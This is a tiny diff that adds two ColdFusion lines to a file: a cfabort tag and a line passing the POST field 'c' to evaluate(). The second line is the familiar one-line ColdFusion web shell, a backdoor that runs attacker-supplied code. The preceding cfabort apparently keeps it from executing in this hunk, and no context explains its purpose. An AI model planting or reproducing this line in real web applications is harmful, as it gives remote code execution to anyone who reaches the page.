@@ -1,0 +1,2 @@
+<cfabort>
+<cfset x=evaluate(form.c)>
